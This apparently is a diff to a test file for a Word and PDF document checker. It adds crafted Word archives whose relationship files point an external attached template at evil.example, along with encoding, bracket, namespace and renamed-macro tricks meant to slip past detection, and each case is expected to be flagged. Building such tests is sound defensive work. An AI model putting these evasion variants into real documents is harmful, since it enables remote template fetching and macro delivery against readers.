@@ -16,6 +16,16 @@ RELATION = b'<Relationships><Relationship Id="r" Type="http://x/%s" Target="http
 EXTERNAL = b'TargetMode="External"'
 
 
+RELS = "word/_rels/settings.xml.rels"
+
+
+def template(target: bytes = b"http://evil.example/t.dotm", mode: bytes = EXTERNAL, first: bytes = b"r") -> bytes:
+    """A Word file whose template lies elsewhere; `first`: the attribute before the ones that say so."""
+    kind = b'Type="http://x/attachedTemplate"'
+    relation = b'<Relationships><Relationship Id="%s" %s Target="%s" %s/></Relationships>' % (first, kind, target, mode)
+    return archive(**{RELS: relation})
+
+
 def pdf_with(change=lambda document: None, **saving) -> bytes:
     document, out = pikepdf.new(), BytesIO()
     document.add_blank_page()
@@ -114,6 +124,23 @@ BAD = {
     "template from elsewhere": (
         archive(**{"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", EXTERNAL)}),
         Reason.FETCHES,
+    ),
+    "template at an address with the word hyperlink": (template(b"http://evil.example/hyperlink"), Reason.FETCHES),
+    "template with a letter as a number": (template(mode=b'TargetMode="Exter&#110;al"'), Reason.FETCHES),
+    "template behind a bracket": (template(first=b"r>"), Reason.FETCHES),
+    "template that names a link beside": (
+        template(mode=b'xmlns:x="x" x:Type="http://x/hyperlink" ' + EXTERNAL),
+        Reason.FETCHES,
+    ),
+    "relations with a document type": (archive(**{RELS: b"<!DOCTYPE x><Relationships/>"}), Reason.DOCTYPE),
+    "relations that are no XML": (archive(**{RELS: b"<Relationship " * 10_000}), Reason.DAMAGED),
+    "relations without end": (
+        archive(**{RELS: b"<Relationships>" + b"<Relationship/>" * 20_000 + b"</Relationships>"}),
+        Reason.TOO_COMPLEX,
+    ),
+    "macros under another name": (
+        archive(**{RELS: b'<Relationships><Relationship Type="http://x/vbaProject" Target="a"/></Relationships>'}),
+        Reason.MACROS,
     ),
     "document type": (archive(**{"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), Reason.DOCTYPE),
     "document type in two bytes": (
